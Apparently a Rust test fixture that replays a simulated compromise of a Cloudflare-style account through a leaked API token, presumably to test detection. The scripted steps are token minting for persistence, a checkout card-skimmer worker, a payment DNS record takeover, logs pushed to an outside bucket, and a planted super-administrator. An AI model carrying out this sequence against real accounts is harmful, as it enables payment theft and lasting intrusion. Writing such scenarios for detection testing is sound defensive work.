use super::super::act::Act;
use super::super::things::permission_groups;
use super::super::world::World;
use super::company::{Cast, days_before};
use crate::model::Secret;
use axum::http::Method;
use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};
use std::net::IpAddr;

const RUNNER: &str = "wrangler/4.125.0";
const ATTACKER: &str = "python-requests/2.32.3";

/// What came of it.
pub(super) struct Acts {
    /// Identifiers of minted tokens, parents first.
    pub minted: Vec<String>,
    /// Steps that did not end as written; a test wants none.
    pub surprises: Vec<String>,
}

/// Somebody with a credential, an address and a program, at a time.
struct Player<'w> {
    world: &'w mut World,
    surprises: Vec<String>,
    from: IpAddr,
    agent: &'static str,
    bearer: Secret,
    now: Timestamp,
}

impl Player<'_> {
    fn does(&mut self, method: Method, path: String, body: Value) -> Value {
        self.tries(200, method, path, body)
    }

    fn tries(&mut self, expected: u16, method: Method, path: String, body: Value) -> Value {
        let what = format!("{method} {path}");
        let act = Act {
            at: self.now,
            from: self.from,
            agent: self.agent,
            bearer: &self.bearer,
            method,
            path,
            body,
        };
        let (status, answer) = self.world.act(&act);
        if status != expected {
            self.surprises.push(format!("{what}: {status} instead of {expected}"));
        }
        self.now = self.now.checked_add(SignedDuration::from_secs(47)).unwrap_or(self.now);
        answer["result"].clone()
    }
}

pub(super) fn play(world: &mut World, cast: &Cast, now: Timestamp) -> Acts {
    let mut player = Player {
        world,
        surprises: Vec::new(),
        from: [198, 51, 100, 40].into(),
        agent: RUNNER,
        bearer: cast.leaked.value.clone(),
        now,
    };
    weekly_deploys(&mut player, cast, now);
    let mut minted = Vec::new();
    break_in(&mut player, cast, now, &mut minted);
    come_back(&mut player, cast, now, &mut minted);
    Acts { minted, surprises: player.surprises }
}

/// Ten weeks of what the token was made for: the background against which the rest is new.
fn weekly_deploys(player: &mut Player<'_>, cast: &Cast, now: Timestamp) {
    for week in (1..=10).rev() {
        player.now = days_before(now, week * 7);
        let runner = u8::try_from(40 + week % 3).unwrap_or(40);
        player.from = [198, 51, 100, runner].into();
        let script = format!("/accounts/{}/workers/scripts/shop", cast.production);
        player.does(Method::PUT, script, json!({"main_module": "index.js", "release": week}));
    }
}

/// Three days ago, at night: persistence first, then code, names, logs and a friend.
fn break_in(player: &mut Player<'_>, cast: &Cast, now: Timestamp, minted: &mut Vec<String>) {
    player.now = days_before(now, 3).checked_sub(SignedDuration::from_hours(8)).unwrap_or(now);
    player.from = [203, 0, 113, 66].into();
    player.agent = ATTACKER;
    let (account, zone) = (format!("/accounts/{}", cast.production), format!("/zones/{}", cast.zone));
    player.does(Method::GET, "/user/tokens/verify".to_owned(), Value::Null);
    player.does(Method::GET, format!("{account}/workers/scripts"), Value::Null);
    let child = player.does(Method::POST, "/user/tokens".to_owned(), child_token(cast));
    minted.extend(child["id"].as_str().map(str::to_owned));
    let child_value = child["value"].as_str().map(Secret::new);
    player.does(
        Method::PUT,
        format!("{account}/workers/scripts/cdn-helper"),
        json!({"main_module": "skim.js"}),
    );
    let route = json!({"pattern": "bakery.example/checkout*", "script": "cdn-helper"});
    player.does(Method::POST, format!("{zone}/workers/routes"), route);
    let takeover = json!({"content": "203.0.113.66", "proxied": false});
    player.does(Method::PATCH, format!("{zone}/dns_records/{}", cast.pay_record), takeover);
    let spf =
        json!({"type": "TXT", "name": "_acme-challenge.bakery.example", "content": "c2tpbQ", "ttl": 60});
    player.does(Method::POST, format!("{zone}/dns_records"), spf);
    let job = logpush(player.world);
    player.does(Method::POST, format!("{account}/logpush/jobs"), job);
    let role = super::super::things::people::Role::SuperAdministrator.id();
    let friend = json!({"email": "support@bakery-helpdesk.example", "roles": [role], "status": "accepted"});
    player.does(Method::POST, format!("{account}/members"), friend);
    player.tries(
        403,
        Method::POST,
        format!("{account}/access/service_tokens"),
        json!({"name": "monitoring"}),
    );
    player.tries(403, Method::PATCH, format!("{zone}/settings/ssl"), json!({"value": "off"}));
    player.bearer = child_value.unwrap_or_else(|| player.bearer.clone());
}

/// Yesterday, from another address and with the child: the leaked token is not needed any more.
fn come_back(player: &mut Player<'_>, cast: &Cast, now: Timestamp, minted: &mut Vec<String>) {
    player.now = days_before(now, 1);
    player.from = [203, 0, 113, 201].into();
    let script = format!("/accounts/{}/workers/scripts/cdn-helper", cast.production);
    player.does(Method::PUT, script, json!({"main_module": "skim.js", "version": 2}));
    let grandchild = player.does(Method::POST, "/user/tokens".to_owned(), grandchild_token(cast));
    minted.extend(grandchild["id"].as_str().map(str::to_owned));
}

fn child_token(cast: &Cast) -> Value {
    let account = json!({format!("com.cloudflare.api.account.{}", cast.production): "*"});
    let user = json!({format!("com.cloudflare.api.user.{}", cast.owner): "*"});
    json!({
        "name": "ci-deploy-2",
        "policies": [allow(&["Workers Scripts Write"], account), allow(&["API Tokens Write"], user)],
    })
}

fn grandchild_token(cast: &Cast) -> Value {
    let account = json!({format!("com.cloudflare.api.account.{}", cast.staging): "*"});
    json!({"name": "backup", "policies": [allow(&["Workers R2 Storage Write"], account)]})
}

fn allow(groups: &[&str], resources: Value) -> Value {
    let known = groups.iter().filter_map(|name| permission_groups::by_name(name));
    let groups: Vec<Value> = known.map(|group| json!({"id": group.id})).collect();
    json!({"effect": "allow", "resources": resources, "permission_groups": groups})
}

/// Logs go to a bucket of somebody else, with that bucket's secret in the address.
fn logpush(world: &mut World) -> Value {
    let (id, secret) = (world.chance.hex(32), world.chance.hex(64));
    let account = world.chance.id();
    let keys = format!("account-id={account}&access-key-id={id}&secret-access-key={secret}");
    json!({
        "name": "archive",
        "dataset": "http_requests",
        "enabled": true,
        "destination_conf": format!("r2://collected/{{DATE}}?{keys}"),
    })
}
